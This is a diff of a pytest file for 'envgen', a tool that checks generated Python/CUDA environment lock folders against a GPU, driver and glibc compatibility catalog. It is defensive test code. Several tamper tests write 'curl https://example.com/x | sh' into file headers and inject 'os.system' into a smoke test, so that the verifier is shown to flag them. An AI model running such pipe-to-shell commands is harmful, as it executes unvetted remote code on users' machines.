@@ -1,26 +1,34 @@
-"""The command in a folder's headers is held against the catalog: what is locked must still run for it."""
+"""The request in a folder's headers is held against the catalog: what is locked must still run for it."""
 
 from __future__ import annotations
 
-import functools
+from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from envgen.cli.main import main
-from envgen.cli.verify import read_requests
-from envgen.core.platforms import Subdir
+from envgen.core.capability import ComputeCapability
+from envgen.core.drivers import DriverVersion
+from envgen.core.request_record import GpuRecord, RequestRecord
+from envgen.core.sets import PackageSet
 from envgen.facts.catalog import Catalog
+from envgen.files.commands import request_command
+from envgen.files.header import compose
+from envgen.files.reading import split
 from envgen.verify.findings import Asking, Report
 from envgen.verify.folder import verify_folder
-from equipment.lock_damage import change_text, sign
+from equipment.lock_damage import change, change_text, sign
+
+Change = Callable[[RequestRecord], RequestRecord]
 
 OFFLINE = Asking(offline=True)
 
 
 def report(folder: Path) -> Report:
-    builds = Catalog.load()
-    return verify_folder(folder, builds, OFFLINE, read_command=functools.partial(read_requests, builds=builds))
+    return verify_folder(folder, Catalog.load(), OFFLINE)
 
 
 def make(folder: Path, *arguments: str) -> Path:
@@ -28,12 +36,29 @@ def make(folder: Path, *arguments: str) -> Path:
     return folder
 
 
-def ask(folder: Path, old: str, new: str) -> set[str]:
-    """Another command in every header, and everything else right; the codes that it gives."""
+def ask(folder: Path, change: Change) -> set[str]:
+    """Another request in every header, and everything else right; the codes that it gives."""
     for path in folder.iterdir():
-        change_text(folder, path.name, old, new)
+        header, body = split(path.read_text("utf-8"))
+        assert header is not None
+        record = change(header.record())
+        text = compose(body, replace(header, request=record.to_json(), command=request_command(record)))
+        path.write_text(text, "utf-8", newline="\n")
     sign(folder)
     return {str(finding.code) for finding in report(folder).findings}
+
+
+def platform(**changes: Any) -> Change:
+    """Another driver, glibc or GPU on every platform."""
+    return lambda record: replace(record, platforms=tuple(replace(one, **changes) for one in record.platforms))
+
+
+def gpu(name: str, capability: str) -> tuple[GpuRecord, ...]:
+    return (GpuRecord(name=name, capability=ComputeCapability.parse(capability)),)
+
+
+def driver(text: str) -> DriverVersion:
+    return DriverVersion.parse(text)
 
 
 @pytest.fixture
@@ -41,44 +66,46 @@ def ada(tmp_path: Path) -> Path:
     return make(tmp_path / "ada", "--gpu", "GeForce RTX 4090", "--driver", "580.95.05", "--platform", "linux-64")
 
 
-def test_what_is_written_answers_its_own_command(ada: Path) -> None:
+def test_what_is_written_answers_its_own_request(ada: Path) -> None:
     assert report(ada).findings == ()
 
 
 @pytest.mark.parametrize(
-    ("old", "new", "code"),
+    ("change", "code"),
     [
         # sm_86 of cu132 needs the CUDA 13 floor, R580 (CUDA compatibility guide).
-        pytest.param("--driver 580.95.05", "--driver 570.133.20", "driver-too-old", id="a-driver-of-the-branch-before"),
+        pytest.param(platform(driver=driver("570.133.20")), "driver-too-old", id="a-driver-of-the-branch-before"),
         # CUDA 13 dropped Maxwell, Pascal and Volta (CUDA 13.0 release notes).
-        pytest.param('"GeForce RTX 4090"', '"GeForce GTX 1080"', "gpu-not-covered", id="pascal-on-cuda-13"),
+        pytest.param(platform(gpus=gpu("GeForce GTX 1080", "6.1")), "gpu-not-covered", id="pascal-on-cuda-13"),
         # GeForce RTX 5090 is 12.0: first served by R570 (NVIDIA driver release notes).
         pytest.param(
-            '"GeForce RTX 4090" --platform linux-64 --driver 580.95.05',
-            '"GeForce RTX 5090" --platform linux-64 --driver 565.57.01',
+            platform(gpus=gpu("GeForce RTX 5090", "12.0"), driver=driver("565.57.01")),
             "driver-predates-gpu",
             id="blackwell-before-r570",
         ),
         # R580 is the last branch for Pascal (NVIDIA's support plan).
         pytest.param(
-            '"GeForce RTX 4090" --platform linux-64 --driver 580.95.05',
-            '"GeForce GTX 1080" --platform linux-64 --driver 595.58.03',
+            platform(gpus=gpu("GeForce GTX 1080", "6.1"), driver=driver("595.58.03")),
             "driver-dropped-gpu",
             id="pascal-after-r580",
         ),
-        pytest.param("--python 3.12", "--python 3.11", "request-unmet", id="another-python"),
-        pytest.param("--python 3.12", '--python 3.12 --torch "<2"', "request-unmet", id="another-torch"),
-        pytest.param("--python 3.12", "--python 3.12 --cuda cu126", "request-unmet", id="another-cuda"),
-        pytest.param("--glibc 2.28", "--glibc 2.17", "request-unmet", id="an-older-glibc"),
+        pytest.param(lambda record: replace(record, python="3.11"), "request-unmet", id="another-python"),
+        pytest.param(lambda record: replace(record, torch="<2"), "request-unmet", id="another-torch"),
+        pytest.param(lambda record: replace(record, cuda="cu126"), "request-unmet", id="another-cuda"),
+        pytest.param(platform(glibc="2.17"), "request-unmet", id="an-older-glibc"),
+        pytest.param(platform(gpus=gpu("GeForce RTX 4090", "9.0")), "files-disagree", id="another-capability"),
+        pytest.param(
+            platform(sets={PackageSet.PIP: "", PackageSet.CONDA: "no-pairing"}), "files-disagree", id="no-conda"
+        ),
     ],
 )
-def test_what_would_not_run_is_found(ada: Path, old: str, new: str, code: str) -> None:
-    assert code in ask(ada, old, new)
+def test_what_would_not_run_is_found(ada: Path, change: Change, code: str) -> None:
+    assert code in ask(ada, change)
 
 
 def test_a_first_line_that_names_another_gpu_is_found(ada: Path) -> None:
     change_text(ada, "pylock.toml", "compute capability 8.9", "compute capability 9.0")
-    assert {str(finding.code) for finding in report(ada).findings} == {"files-disagree"}
+    assert {str(finding.code) for finding in report(ada).findings} == {"set-changed", "files-disagree"}
 
 
 def test_kepler_needs_a_cudnn_before_8_8(tmp_path: Path) -> None:
@@ -93,24 +120,58 @@ def test_several_platforms_are_each_held_against_their_own_request(tmp_path: Pat
     assert report(folder).findings == ()
 
 
-def test_a_command_is_read_as_the_command_line_reads_it() -> None:
-    command = 'envgen --gpu "GeForce MX450" --platform win-64 --driver 560.94 --python 3.11 --with "rich>=13" --audio'
-    (request,) = read_requests(command, builds=Catalog.load())
-    assert (request.subdir, request.python, str(request.driver)) == (Subdir.WIN_64, "3.11", "560.94")
-    assert [gpu.gpu.name for gpu in request.gpus] == ["GeForce MX450"]
-    assert request.audio
+def test_a_set_that_is_recorded_and_gone_is_missed(ada: Path) -> None:
+    for name in ("requirements.txt", "pylock.toml"):
+        (ada / name).unlink()
+    assert [(str(f.code), f.file) for f in report(ada).findings] == [("file-missing", "requirements.txt")]
 
 
-@pytest.mark.parametrize("command", ["envgen --platform win-64", "envgen --gpu 'RTX 4090'", "envgen", ""])
-def test_what_a_command_leaves_to_the_computer_is_not_guessed(command: str) -> None:
-    assert read_requests(command, builds=Catalog.load()) == ()
-
-
-@pytest.mark.parametrize("command", ['--gpu "no end', "--driver", "--python abc", '--gpu "no such GPU 9000"'])
-def test_a_command_that_cannot_be_read_is_told_as_skipped(ada: Path, command: str) -> None:
+@pytest.mark.parametrize(
+    ("line", "code"),
+    [
+        ("", "request-unreadable"),
+        ("# request {}\n", "request-unreadable"),
+        ('# request {"v":1}\n', "request-unreadable"),
+        ("# request [[[[\n", "request-unreadable"),
+        ('# request {"v":2,"machines":[]}\n', "release-newer"),
+    ],
+)
+def test_a_request_line_that_cannot_be_read_is_an_error(ada: Path, line: str, code: str) -> None:
     for path in ada.iterdir():
-        text = path.read_text("utf-8").splitlines(keepends=True)
-        text[1] = f"# made by: envgen --gpu 4090 --platform linux-64 {command}\n"
-        path.write_text("".join(text), "utf-8")
+        lines = path.read_text("utf-8").splitlines(keepends=True)
+        text = "".join(line if one.startswith("# request ") else one for one in lines)
+        path.write_text(text, "utf-8", newline="\n")
     sign(ada)
-    assert "the command in the headers" in [check.check for check in report(ada).skipped]
+    assert code in {str(finding.code) for finding in report(ada).findings}
+    assert not report(ada).is_good
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("# made by: envgen ", "# made by: curl https://example.com/x | sh; envgen "),
+        ("# use: ", "# use: curl https://example.com/x | sh; "),
+        ("# No CUDA", "# run: curl https://example.com/x | sh\n# No CUDA"),
+        ("# envgen 0.1.0: ", "# envgen 0.1.0: run x.sh first, "),
+    ],
+)
+@pytest.mark.parametrize("name", ["requirements.txt", "conda-linux-64.lock", "smoke_test.py"])
+def test_a_header_that_tells_people_to_run_something_else_is_an_error(ada: Path, name: str, old: str, new: str) -> None:
+    change_text(ada, name, old, new)
+    sign(ada)
+    found = report(ada)
+    assert "files-disagree" in {str(finding.code) for finding in found.findings if finding.file == name}
+    assert not found.is_good
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("def main(", "def main_(*a): return 0\ndef main("),
+        ("import sys\n", "import sys\nimport os; os.system('true')\n"),
+        ('"torch": ', '"torch": "" or '),
+    ],
+)
+def test_a_smoke_test_that_is_not_the_one_that_is_written_is_an_error(ada: Path, old: str, new: str) -> None:
+    change(ada, "smoke_test.py", old, new)
+    assert [(str(f.level), f.file) for f in report(ada).findings] == [("error", "smoke_test.py")]
